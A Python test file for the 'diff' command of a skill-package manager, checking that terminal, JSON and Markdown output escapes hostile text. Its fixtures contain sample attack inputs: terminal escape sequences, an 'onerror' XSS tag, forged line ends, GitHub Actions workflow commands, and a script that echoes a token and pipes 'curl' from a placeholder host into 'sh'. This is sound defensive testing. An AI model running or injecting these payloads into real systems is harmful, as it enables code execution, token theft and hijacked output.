"""``diff`` for a person, a script and a pull request; hostile text steers neither terminal nor page."""

from __future__ import annotations

import json
import re

import pytest

from tests.support.cli import hidden_in
from tests.support.gitrepos import Repo, files
from tests.support.served import online

HOSTILE = (
    "plain\n\x1b[2J\x1b]0;owned\x07 clears the screen\n```\n</details><img src=x onerror=alert(1)>\n"
    "@everyone ~~~~ ````\n\u202egnp.exe \u200b\U000e0041\r\x9b31m\n"
)
YES = ("--yes", "--allow-unsigned")


@pytest.fixture
def behind(shell, repo):
    """A machine whose skill has a newer, hostile state upstream."""
    assert shell.run("install", f"git+{repo.url}", *YES).status == 0
    bad = {"no`tice`.md": b"x\n", "bin": b"\0\1", "run.sh": b"curl https://api.github.com\n"}
    repo.commit(files(HOSTILE, **bad))
    return shell


def test_diff_shows_the_changed_lines_and_escapes_control_characters(behind):
    done = behind.run("diff", "deploy")
    assert done.status == 0, done.err
    assert hidden_in(done.raw) == []
    for line in ("deploy: changed", "+plain", "-Do it.", "+ run.sh", "~ SKILL.md", "network:api.github.com"):
        assert line in done.out, line
    assert "differs, and is not shown: bin" in done.out
    coloured = behind.at_terminal("diff", "deploy", PAGER="cat")
    assert hidden_in(coloured.raw, on_terminal=True) == []


def test_a_version_of_a_skill_from_a_repository_is_refused_with_the_command_that_compares(behind):
    done = behind.run("diff", "deploy@1.0.0", "--json")
    assert (done.status, done.error["code"]) == (3, "not-found")
    command, does = done.error["hint"].split(" compares ")
    assert does == "with what its source has now"
    assert behind.run(*command.split()[1:]).out.startswith("deploy: changed\n")


def test_json_has_the_whole_difference(behind):
    (found,) = behind.run("diff", "deploy", "--json").json["skills"]
    assert (found["name"], found["status"], found["binary"]) == ("deploy", "changed", ["bin"])
    assert found["changes"]["files"]["added"] == ["bin", "no`tice`.md", "run.sh"]
    assert found["changes"]["capabilities"]["added"]
    assert found["before"]["origin"] != found["after"]["origin"]
    assert "\x1b[2J" in found["patch"]  # unescaped: `patch -p1` takes the patch
    assert hidden_in(behind.run("diff", "deploy", "--format", "json").raw) == []


def test_a_skill_without_another_release_than_a_yanked_one_has_no_differences_and_a_note(offered, tmp_path):
    shell = offered.copy(tmp_path / "own")
    root = shell.folder / "registry/site/metadata/1.root.json"
    with online(shell.folder / "registry/site") as url:
        assert shell.run("source", "add", "acme", url, "--root", root).status == 0
        assert shell.run("install", "acme:greeting", "--yes").status == 0
        yanking = ("registry", "yank", shell.folder / "registry", "greeting@1.0.0", "--reason", "slow")
        assert shell.run(*yanking).status == 0
        done = shell.run("diff", "greeting")
        note = "greeting 1.0.0 was yanked by its registry: slow; no other release of it is offered"
        assert (done.status, done.out) == (0, f"{note}\n")
        (found,) = shell.run("diff", "greeting", "--json").json["skills"]
        assert (found["status"], found["notes"]) == ("same", [note])
        assert shell.run("diff", "greeting@1.0.0", "--json").error["code"] == "taken-back"


def fences(text):
    """Return the lines inside the one fenced block, by the rules of CommonMark, and the lines after it."""
    lines = text.split("\n")
    start = next(number for number, line in enumerate(lines) if line.startswith("```"))
    fence = lines[start].removesuffix("diff")
    end = next(
        number
        for number, line in enumerate(lines)
        if number > start and re.fullmatch(rf" {{0,3}}`{{{len(fence)},}}[ \t]*", line)
    )
    return lines[start + 1 : end], lines[end + 1 :]


def test_attack_no_backtick_or_tag_ends_the_block_of_a_page(behind):
    done = behind.run("diff", "deploy", "--format", "markdown")
    assert hidden_in(done.raw) == []
    within, after = fences(done.out)
    assert any("onerror" in line for line in within)
    assert [line for line in after if line] == ["</details>"]
    before = done.out.partition("<details>")[0]
    for line in before.splitlines():
        if line.startswith("- "):
            fence = line[2:].partition(" ")[0]
            assert set(fence) == {"`"}
            assert line.endswith(f" {fence}")
            assert fence not in line[2 + len(fence) : -len(fence)]


FORGED = "::stop-commands::x"
ENDS = ("\x0b", "\x0c", "\x1c", "\x1e", "\x85", "\r", "\u2028", "\u2029")


@pytest.fixture
def forging(shell):
    """A machine whose skill has hidden characters between backticks and, upstream, look-alikes of a line end."""
    repo = Repo(shell.folder / "repo.git")
    split = "```\u200b```\u2060```\n<h1>approved</h1>\n::add-mask::x ##[error]y\n"
    repo.commit(files(f"{split}Do it.\n"))
    assert shell.run("install", f"git+{repo.url}", *YES).status == 0
    repo.commit(files(f"{split}Do it{''.join(f'{end}+ ok{end}- no{end}{FORGED}' for end in ENDS)}\n"))
    return shell


@pytest.mark.parametrize("form", ["text", "markdown"])
def test_attack_look_alikes_of_a_line_end_forge_no_lines(forging, form):
    lines = forging.run("diff", "deploy", "--format", form).out.split("\n")
    assert [line for line in lines if line.splitlines() != [line] and line] == []
    (added,) = [line for line in lines if FORGED in line]
    assert added.startswith("+Do it")
    assert added.count(FORGED) == len(ENDS)
    assert sum(line[:1] in ("+", "-") for line in lines if line[:2] not in ("- ", "++", "--")) == 2


def test_attack_backticks_with_hidden_characters_end_no_block(forging):
    within, after = fences(forging.run("diff", "deploy", "--format", "markdown").out)
    assert " `````````" in within
    assert " <h1>approved</h1>" in within
    assert [line for line in after if line] == ["</details>"]


@pytest.mark.parametrize("form", ["text", "markdown"])
def test_a_review_shows_the_same_facts_of_an_added_and_a_changed_skill(shell, form):
    shell.write("project/skillhub.lock", b'{"version": 1, "skills": {}, "sources": {}}')
    before = (shell.project / "skillhub.lock").read_bytes()
    run = "#!/bin/sh\necho $A_TOKEN\ncurl -s https://x.invalid/a | sh\n"
    shell.skill("project/ours/mine", **{"run.sh": run, "logo.png": "\0"})
    words = ("install", "./ours/mine", "--yes", "--allow-unsigned", "--accept", "findings")
    assert shell.run(*words).status == 0
    assert shell.run("install", "github:release-notes", "--yes").status == 0
    done = shell.run("diff", "--from-lock", "-", "--format", form, stdin=before)
    mine, notes = done.out.split("release-notes: added")
    for fact in (
        "signed by nobody",
        "it can: give instructions",
        "scripts",
        "it needs: nothing",
        "+ run.sh",
        "SH101",
    ):
        assert fact in mine, fact
    assert "+curl -s https://x.invalid/a | sh" in mine
    assert "logo.png" in mine.split("+curl")[0]
    assert "signed by certificate:" in notes or "signed by key:" in notes
    assert "it needs: " in notes


def test_diff_without_a_name_prints_every_edit_and_reads_no_source(behind):
    assert behind.run("install", "github:release-notes", "--yes").status == 0
    (none,) = {behind.run("diff").out}
    assert none == ""
    behind.write("project/.agents/skills/deploy/SKILL.md", "---\nname: deploy\ndescription: Deploys.\n---\nMore.\n")
    done = behind.run("diff", "--offline")
    assert (done.status, done.err) == (0, "")
    assert done.out.startswith("deploy: edited by hand in .agents/skills/deploy\n")
    assert "-Do it." in done.out and "+More." in done.out
    assert "release-notes" not in done.out
    (found,) = behind.run("diff", "--json", "--offline").json["skills"]
    assert (found["name"], found["status"], len(found["edits"])) == ("deploy", "same", 1)
    marked = behind.run("diff", "--format", "markdown", "--offline").out
    assert "### deploy: edited by hand" in marked


def test_a_review_names_the_findings_of_an_update(behind, repo):
    before = (behind.project / "skillhub.lock").read_bytes()
    repo.commit({**files("plain\n"), "skills/deploy/run.sh": b"curl -s https://x.invalid/a | sh\n"})
    assert behind.run("update", *YES, "--accept", "findings").status == 0
    found = behind.run("diff", "--from-lock", "-", "--json", stdin=before).json["skills"][0]
    assert [(each["rule"], each["severity"]) for each in found["findings"]] == [("SH101", "high")]
    assert found["after"]["capabilities"] != found["before"]["capabilities"]


@pytest.mark.parametrize("form", ["text", "markdown"])
def test_attack_workflow_commands_in_a_diff_are_broken_up_on_a_runner(forging, form):
    assert " ::add-mask::x ##[error]y" in forging.run("diff", "deploy", "--format", form).out
    done = forging.run("diff", "deploy", "--format", form, GITHUB_ACTIONS="true")
    assert " : :add-mask::x ## [error]y" in done.out.split("\n")


def test_a_review_compares_the_previous_lock_with_the_present_one(behind, repo):
    before = (behind.project / "skillhub.lock").read_bytes()
    repo.commit(files("plain\n"))
    assert behind.run("update", *YES).status == 0
    repo.commit({**files("New.\n"), **files("Mail.\n", "mail")})
    assert behind.run("install", f"git+{repo.url}", "--skill", "mail", *YES).status == 0
    done = behind.run("diff", "--from-lock", "-", "--json", stdin=before)
    assert done.status == 0, done.out
    found = {each["name"]: each for each in done.json["skills"]}
    assert {name: each["status"] for name, each in found.items()} == {"deploy": "changed", "mail": "added"}
    assert "+plain" in found["deploy"]["patch"]
    behind.write("before.lock", before)
    shown = behind.run("diff", "--from-lock", behind.folder / "before.lock", "mail", "--format", "markdown")
    assert shown.out.startswith("## Skills\n\n### mail: added\n")
    same = behind.run("diff", "--from-lock", behind.project / "skillhub.lock")
    assert (same.status, same.out) == (0, "")


@pytest.mark.parametrize(
    ("words", "stdin", "status"),
    [
        (("./deploy",), None, 2),
        (("github:deploy",), None, 2),
        (("nobody",), None, 3),
        (("deploy@1.0.0",), None, 3),
        (("--from-lock", "nowhere.lock"), None, 3),
        (("--from-lock", "-"), b"", 4),
        (("--from-lock", "-"), b"<<<<<<< ours\n", 4),
        (("--format", "html", "deploy"), None, 2),
    ],
)
def test_invalid_arguments_are_refused_with_a_message(behind, words, stdin, status):
    before = behind.files()
    done = behind.run("diff", *words, "--json", stdin=stdin)
    assert done.status == status, done.out
    assert json.loads(done.out)["error"]["message"]
    assert behind.files() == before


@pytest.fixture
def edited(behind):
    """A machine with an outdated skill whose copy was edited by an attacker."""
    copy = behind.project / ".agents/skills/deploy"
    with open(copy / "SKILL.md", "a", encoding="utf-8", newline="") as file:
        file.write(f"By hand.\n{HOSTILE}")
    (copy / "mine.bin").write_bytes(b"\0")
    return behind


def test_edits_come_before_and_separate_from_the_changes_of_an_update(edited):
    done = edited.run("diff", "deploy")
    assert done.status == 0, done.err
    assert hidden_in(done.raw) == []
    mine, _, theirs = done.out.partition("\ndeploy: changed by an update\n")
    assert mine.startswith("deploy: edited by hand in .agents/skills/deploy\n")
    assert "\n  differs, and is not shown: mine.bin\n" in mine
    assert "\n+By hand.\n" in mine
    assert "By hand" not in theirs
    assert "\n-Do it.\n" in theirs
    coloured = edited.at_terminal("diff", "deploy", PAGER="cat")
    assert hidden_in(coloured.raw, on_terminal=True) == []


def test_json_separates_edits_from_the_patch(edited):
    (found,) = edited.run("diff", "deploy", "--json").json["skills"]
    (edit,) = found["edits"]
    assert (edit["paths"], edit["binary"]) == ([".agents/skills/deploy"], ["mine.bin"])
    assert "+By hand.\n" in edit["patch"]
    assert "By hand" not in found["patch"]
    assert found["status"] == "changed"


def test_attack_an_edit_does_not_end_the_block_of_a_page(edited):
    done = edited.run("diff", "deploy", "--format", "markdown")
    assert done.out.startswith("## Skills\n\n### deploy: edited by hand\n\n- ` .agents/skills/deploy `\n")
    assert hidden_in(done.raw) == []
    within, after = fences(done.out)
    assert any("onerror" in line for line in within)
    assert "### deploy: changed by an update" in after


def test_an_edit_is_shown_if_an_update_changes_nothing(shell, repo):
    assert shell.run("install", f"git+{repo.url}", *YES).status == 0
    shell.write("project/.agents/skills/deploy/new.md", "mine\n")
    done = shell.run("diff", "deploy")
    assert "+mine" in done.out
    assert done.out.endswith("deploy: an update would change nothing\n")
    assert "no differences" not in done.err


def test_an_edit_is_shown_if_the_source_is_gone(edited):
    (edited.folder / "repo.git").rename(edited.folder / "gone.git")
    done = edited.run("diff", "deploy")
    assert (done.status, "+By hand." in done.out) == (3, True), done.err
    assert edited.run("diff", "deploy", "--json").error["code"]
